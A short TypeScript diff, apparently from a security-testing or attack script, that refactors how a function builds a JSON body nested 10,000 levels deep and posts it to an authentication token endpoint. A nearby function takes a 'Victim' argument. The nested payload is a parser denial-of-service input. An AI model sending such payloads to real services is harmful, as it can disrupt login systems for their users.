@@ -179,7 +179,7 @@ function save({ client, summary }: Victim): Promise<unknown> {
 }
 
 function deep(base: string): Promise<unknown> {
-  const body = '{"a":'.repeat(10_000) + "1" + "}".repeat(10_000);
+  const body = `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`;
   const headers = { "content-type": "application/json" };
   return post(base, "/auth/v1/token?grant_type=password", body, headers);
 }
